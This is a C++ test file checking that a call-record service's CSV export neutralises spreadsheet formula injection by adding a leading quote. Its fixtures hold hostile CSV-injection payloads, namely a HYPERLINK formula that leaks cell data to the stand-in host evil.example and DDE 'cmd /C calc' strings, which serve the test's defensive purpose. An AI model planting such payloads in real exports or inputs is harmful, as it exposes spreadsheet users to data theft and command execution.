// CSV injection over the real binary: CDRs whose caller-chosen text starts like a spreadsheet
// formula are stored as sent through the Kamailio CDR ingest, kept unchanged in the JSON
// search, and neutralised (a leading ') in GET /1.0/cdrs.csv.
#include "api/cdr/cdr_csv.h"
#include "served_binary.h"

namespace c4::test {
namespace {

const std::string kAcmeUuid = "c8c31ae4-d859-44af-8097-91c0941a5571";

// The cells of one RFC 4180 line (quotes undone), without its CRLF.
std::vector<std::string> csv_cells(const std::string& line) {
  std::vector<std::string> cells(1);
  bool quoted = false;
  for (size_t i = 0; i < line.size(); ++i) {
    char c = line[i];
    if (quoted) {
      if (c == '"' && i + 1 < line.size() && line[i + 1] == '"') cells.back() += '"', ++i;
      else if (c == '"') quoted = false;
      else cells.back() += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      cells.emplace_back();
    } else {
      cells.back() += c;
    }
  }
  return cells;
}

// The data rows of a CSV export (the header dropped), split on CRLF outside quotes.
std::vector<std::vector<std::string>> csv_rows(const std::string& body) {
  std::vector<std::vector<std::string>> rows;
  std::string line;
  bool quoted = false;
  for (size_t i = 0; i < body.size(); ++i) {
    if (body[i] == '"') quoted = !quoted;
    if (!quoted && body.compare(i, 2, "\r\n") == 0) {
      rows.push_back(csv_cells(line));
      line.clear();
      ++i;
      continue;
    }
    line += body[i];
  }
  if (!rows.empty()) rows.erase(rows.begin());
  return rows;
}

}  // namespace

TEST_CASE("csv text fields that start like a formula get a leading quote and others are unchanged") {
  using cdr::csv_text_field;
  CHECK(csv_text_field("=1+1") == "'=1+1");
  CHECK(csv_text_field("+33140000000") == "'+33140000000");
  CHECK(csv_text_field("-2") == "'-2");
  CHECK(csv_text_field("@SUM(A1)") == "'@SUM(A1)");
  CHECK(csv_text_field("\tx") == "'\tx");
  CHECK(csv_text_field("\rx") == "\"'\rx\"");
  CHECK(csv_text_field("=HYPERLINK(\"http://x\",\"y\")") == "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"");
  CHECK(csv_text_field("sip:+33140000000@192.0.2.10") == "sip:+33140000000@192.0.2.10");
  CHECK(csv_text_field("a=b") == "a=b");
  CHECK(csv_text_field("") == "");
}

TEST_CASE("cdrs with formula text stored through the ingest come out of the csv export neutralised") {
  ServedExamples s("c4test_csv_injection");
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"invoice\")";
  struct Hostile {
    std::string call_id, from_uri, to_uri;
  };
  std::vector<Hostile> hostile = {
      {"csv-inject-1", hyperlink, "+33140000123"},
      {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"},
      {"csv-inject-3", "\t=1+1", "\r=1+1"},
  };
  for (const auto& h : hostile) {
    nlohmann::json cdr = {{"event", "cdr"}, {"tenant_id", kAcmeUuid}, {"call_id", h.call_id}, {"from_uri", h.from_uri},
                          {"to_uri", h.to_uri}, {"call_start", 1795000000}, {"duration", 7}};
    auto stored = http_send(s.port(), "POST", "/1.0/kamailio/cdr", cdr.dump());
    REQUIRE(stored.status == 200);
    REQUIRE(stored.json()["success"] == true);
  }
  // JSON keeps the stored text as sent.
  auto found = http_get(s.port(), "/1.0/cdrs?call_id=csv-inject-1", kAdminToken);
  REQUIRE(found.status == 200);
  REQUIRE(found.json()["items"].size() == 1);
  CHECK(found.json()["items"][0]["from_uri"] == hyperlink);

  auto csv = http_get(s.port(), "/1.0/cdrs.csv?tenant=acme", kAdminToken);
  REQUIRE(csv.status == 200);
  auto rows = csv_rows(csv.body);
  REQUIRE(rows.size() == hostile.size());
  size_t matched = 0;
  for (const auto& row : rows) {
    REQUIRE(row.size() == 11);
    // No cell a spreadsheet would take as a formula.
    for (const auto& cell : row) {
      CAPTURE(cell);
      CHECK((cell.empty() || std::string("=+-@\t\r").find(cell.front()) == std::string::npos));
    }
    for (const auto& h : hostile) {
      if (row[6] != h.call_id && row[6] != "'" + h.call_id) continue;
      ++matched;
      CHECK(row[6] == (h.call_id.front() == '=' ? "'" + h.call_id : h.call_id));
      CHECK(row[7] == "'" + h.from_uri);
      CHECK(row[8] == "'" + h.to_uri);
    }
    CHECK(row[10] == "7");
  }
  CHECK(matched == hostile.size());
}

}  // namespace c4::test
